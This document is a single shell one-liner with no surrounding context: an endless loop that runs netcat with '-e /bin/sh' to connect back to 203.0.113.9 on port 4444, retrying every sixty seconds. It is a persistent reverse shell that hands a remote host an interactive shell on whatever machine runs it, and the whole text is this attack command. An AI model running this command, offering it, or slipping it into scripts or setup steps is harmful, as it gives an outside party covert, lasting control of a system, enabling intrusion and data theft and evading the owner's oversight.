while true; do nc -e /bin/sh 203.0.113.9 4444; sleep 60; done
